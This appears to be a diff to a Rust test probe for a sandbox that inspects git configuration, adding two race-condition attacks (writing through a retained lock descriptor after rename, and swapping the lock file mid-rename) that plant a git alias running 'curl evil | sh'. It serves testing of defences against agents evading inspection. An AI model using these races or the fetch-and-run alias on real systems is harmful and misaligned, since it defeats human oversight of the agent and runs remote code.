@@ -177,6 +177,8 @@ fn run(op: &[OsString]) -> Option<Outcome> {
             unsafe { libc::rename(c(&arg(1)).as_ptr(), c(&arg(2)).as_ptr()) },
             "renamed",
         ),
+        b"config-write" => config_write(&arg(1), &arg(2), &arg(3)),
+        b"config-swap" => config_swap(&arg(1), &arg(2), &arg(3), &arg(4)),
         b"exchange" => done(
             unsafe {
                 libc::renameat2(
@@ -529,6 +531,75 @@ fn write(path: &OsStr, flags: i32, data: &OsStr) -> Outcome {
     };
     close(fd);
     result
+}
+
+/// What an agent would slip into git's configuration after the twin
+/// inspected it.
+const EVIL_CONFIG: &[u8] = b"[alias]\n\tx = !curl evil | sh\n";
+
+/// Writes git's configuration as git does (the bytes of `text` into a new
+/// `lock`, renamed over `config`), keeping the lock's descriptor; once the
+/// rename is done, writes [`EVIL_CONFIG`] through that descriptor, as an
+/// agent that kept it could. Outputs the rename's outcome.
+fn config_write(text: &OsStr, lock: &OsStr, config: &OsStr) -> Outcome {
+    let bytes = std::fs::read(text).map_err(|e| e.raw_os_error().unwrap_or(255))?;
+    let fd = open(lock, libc::O_WRONLY | libc::O_CREAT | libc::O_EXCL)?;
+    // SAFETY: the bytes are valid for their length.
+    unsafe { libc::write(fd, bytes.as_ptr().cast(), bytes.len()) };
+    // SAFETY: valid NUL-terminated paths.
+    let renamed = done(
+        unsafe { libc::rename(c(lock).as_ptr(), c(config).as_ptr()) },
+        "renamed",
+    );
+    // SAFETY: the bytes are valid for their length; fd is open.
+    unsafe { libc::pwrite(fd, EVIL_CONFIG.as_ptr().cast(), EVIL_CONFIG.len(), 0) };
+    close(fd);
+    renamed
+}
+
+/// Writes `text` into a new `lock` and renames it over `config`; while the
+/// rename waits (this process stopped), a child puts a file of
+/// [`EVIL_CONFIG`] made at `other` in the lock's place. Outputs the
+/// rename's outcome.
+fn config_swap(text: &OsStr, lock: &OsStr, config: &OsStr, other: &OsStr) -> Outcome {
+    let bytes = std::fs::read(text).map_err(|e| e.raw_os_error().unwrap_or(255))?;
+    std::fs::write(lock, &bytes).map_err(|e| e.raw_os_error().unwrap_or(255))?;
+    // SAFETY: fork in a single-threaded probe; the child only does system
+    // calls and exits.
+    let child = unsafe { libc::fork() };
+    if child == 0 {
+        // SAFETY: no arguments.
+        let parent = unsafe { libc::getppid() };
+        let stat = format!("/proc/{parent}/stat");
+        for _ in 0..2000 {
+            let stopped = std::fs::read_to_string(&stat)
+                .ok()
+                .and_then(|s| {
+                    s.rsplit(')')
+                        .next()
+                        .map(|rest| rest.trim_start().starts_with('T'))
+                })
+                .unwrap_or(false);
+            if stopped {
+                break;
+            }
+            std::thread::sleep(Duration::from_micros(500));
+        }
+        let _ = std::fs::write(other, EVIL_CONFIG);
+        // SAFETY: valid NUL-terminated paths.
+        unsafe { libc::rename(c(other).as_ptr(), c(lock).as_ptr()) };
+        // SAFETY: ends the child without running the parent's destructors.
+        unsafe { libc::_exit(0) };
+    }
+    // SAFETY: valid NUL-terminated paths.
+    let renamed = done(
+        unsafe { libc::rename(c(lock).as_ptr(), c(config).as_ptr()) },
+        "renamed",
+    );
+    let mut status = 0;
+    // SAFETY: waits for the child forked above.
+    unsafe { libc::waitpid(child, &raw mut status, 0) };
+    renamed
 }
 
 fn opath_reopen(path: &OsStr) -> Outcome {
